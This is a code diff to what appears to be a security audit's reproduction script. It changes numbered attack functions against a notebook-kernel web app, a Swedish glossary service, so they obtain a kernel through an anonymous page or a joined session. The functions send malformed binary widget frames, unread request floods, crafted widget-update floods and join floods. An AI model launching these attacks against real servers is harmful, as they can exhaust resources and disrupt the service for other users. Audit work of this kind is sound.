@@ -180,16 +180,25 @@ def server_kernels(server_pid: int) -> list[int]:
     return out
 
 
+async def own_kernel(base: str, code: str | None = None) -> str | None:
+    """A kernel of the attacker's own: the glossary's (an anonymous page), or, with ``code``, a
+    participant's page after joining the session, as anyone in the room can."""
+    if code is None:
+        return await open_page(base)
+    r = await fetch(base + "/delta", method="POST", body=urllib.parse.urlencode({"kod": code, "bord": ""}))
+    if r.code != 303:
+        return None
+    r = await fetch(base + r.headers["Location"], timeout=30, follow=True)
+    return kernel_id_of(r.body.decode(errors="replace")) if r.code == 200 else None
+
+
 # -- the attacks ---------------------------------------------------------------------------------
 
 
-async def binary_frame(base: str, v1: bool = False) -> str:
-    """Finding 1: a widget update carrying ``buffer_paths`` and a 3-byte buffer, to the glossary's kernel.
-
-    Returns how the server reacted: "closed" (the socket was closed), "refused" (a Swedish notice
-    came back) or "sent" (nothing visible).
-    """
-    kernel = await open_page(base)
+async def binary_frame(base: str, v1: bool = False, code: str | None = None) -> str:
+    """Finding 1: a widget update carrying ``buffer_paths`` and a 3-byte buffer, to a kernel of the
+    attacker's own (see :func:`own_kernel`). Returns "sent", or "no kernel" when none was given."""
+    kernel = await own_kernel(base, code)
     if kernel is None:
         return "no kernel"
     ws = await connect(base, kernel, V1 if v1 else None)
@@ -275,9 +284,9 @@ async def join_flood(base: str, code: str, count: int = 2000, concurrency: int =
     return codes
 
 
-async def never_read(base: str, requests: int = 3000, seconds: float = 20) -> None:
+async def never_read(base: str, requests: int = 3000, seconds: float = 20, code: str | None = None) -> None:
     """Finding 6: a client that sends ``requests`` kernel_info requests and never reads a reply."""
-    kernel = await open_page(base)
+    kernel = await own_kernel(base, code)
     if kernel is None:
         return
     ws = await connect(base, kernel)
@@ -296,15 +305,16 @@ async def never_read(base: str, requests: int = 3000, seconds: float = 20) -> No
     ws.close()
 
 
-async def crafted_flood(base: str, messages: int = 2000) -> None:
-    """Finding 8: ``messages`` crafted widget updates (a value out of range) as fast as they go."""
-    kernel = await open_page(base)
+async def crafted_flood(base: str, messages: int = 2000, code: str | None = None) -> None:
+    """Finding 8: ``messages`` crafted widget updates (a value of the wrong type) as fast as they go."""
+    kernel = await own_kernel(base, code)
     if kernel is None:
         return
     ws = await connect(base, kernel)
     try:
         states = await widget_states(ws)
-        target = next((mid for mid, st in states.items() if st.get("_model_name") == "TextModel"), None)
+        target = next((mid for mid, st in states.items() if st.get("_model_name") in ("TextModel", "DropdownModel")),
+                      None)
         if target is None:
             return
         for i in range(messages):
